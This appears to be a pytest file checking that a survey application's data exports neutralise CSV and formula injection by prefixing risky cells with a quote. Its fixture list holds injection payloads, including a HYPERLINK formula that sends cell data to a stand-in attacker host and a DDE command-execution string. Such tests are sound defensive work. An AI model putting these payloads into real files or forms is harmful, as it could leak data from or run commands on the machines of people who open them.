"""Free text a family types can never run as a formula in the spreadsheet an analyst opens (OWASP CSV injection)."""

from __future__ import annotations

import io

import openpyxl
import polars as pl
import pyreadstat
import pytest

from surveyapp.render.exports import Column, serialise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",  # a leading tab is trimmed on input, so this reaches the export as =1+1
]


@pytest.fixture
def stored(http) -> list[str]:
    texts = []
    for text in HOSTILE:
        r = http.post("/api/v1/waves/2026-autumn/responses",
                      json={"answers": {"q7": {"health_met": "tend_to_agree"}, "q7a": text}})
        assert r.status_code == 201, r.text
        texts.append(text.strip())
    return texts


def test_csv_cells_that_would_be_formulas_start_with_a_quote(analyst, stored: list[str]) -> None:
    r = analyst.get("/api/v1/waves/2026-autumn/export", params={"format": "csv"})
    assert r.status_code == 200
    cells = pl.read_csv(io.BytesIO(r.content), infer_schema=False)["q7a"].to_list()
    assert sorted(cells) == sorted(f"'{t}" for t in stored)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_xlsx_text_is_a_string_cell_never_a_formula(analyst, stored: list[str]) -> None:
    r = analyst.get("/api/v1/waves/2026-autumn/export", params={"format": "xlsx"})
    assert r.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(r.content))["responses"]
    header = [c.value for c in sheet[1]]
    column = header.index("q7a") + 1
    cells = [sheet.cell(row=i, column=column) for i in range(2, sheet.max_row + 1)]
    assert [c.data_type for c in cells] == ["s"] * len(stored)  # 's' string; a formula would be 'f'
    assert sorted(c.value for c in cells) == sorted(f"'{t}" for t in stored)


def test_parquet_keeps_the_text_exactly_as_typed_for_code_that_reads_it(analyst, stored: list[str]) -> None:
    r = analyst.get("/api/v1/waves/2026-autumn/export", params={"format": "parquet"})
    assert sorted(pl.read_parquet(io.BytesIO(r.content))["q7a"].to_list()) == sorted(stored)


@pytest.mark.parametrize("fmt", ["sav", "dta"])
def test_spss_and_stata_text_starts_with_a_quote_too(analyst, stored: list[str], fmt: str, tmp_path) -> None:
    r = analyst.get("/api/v1/export", params={"waves": "2026-autumn", "format": fmt})
    assert r.status_code == 200
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(r.content)
    frame, _ = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(path), output_format="polars")
    assert sorted(frame["q7a"].to_list()) == sorted(f"'{t}" for t in stored)


@pytest.mark.parametrize("fmt", ["sav", "dta"])
def test_spss_and_stata_labels_that_would_be_formulas_start_with_a_quote(fmt: str, tmp_path) -> None:
    """A questionnaire's wording is ours, but a label is a cell once SPSS or Stata writes it to a spreadsheet."""
    column = Column("q1", "q1", None, None, "single", "=HYPERLINK(\"http://evil.example\")", "=1+1 question",
                    "", (("a", 1, "@SUM(1,2) answer"), ("b", 2, "Plain")))
    frame = pl.DataFrame({"q1": ["a", "b", None]})
    path = tmp_path / f"labels.{fmt}"
    path.write_bytes(serialise(frame, [column], fmt, title="-title"))
    _, meta = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(path))
    assert meta.column_names_to_labels["q1"] == "'=1+1 question"
    assert meta.variable_value_labels["q1"] == {1: "'@SUM(1,2) answer", 2: "Plain"}
    assert meta.file_label == "'-title"
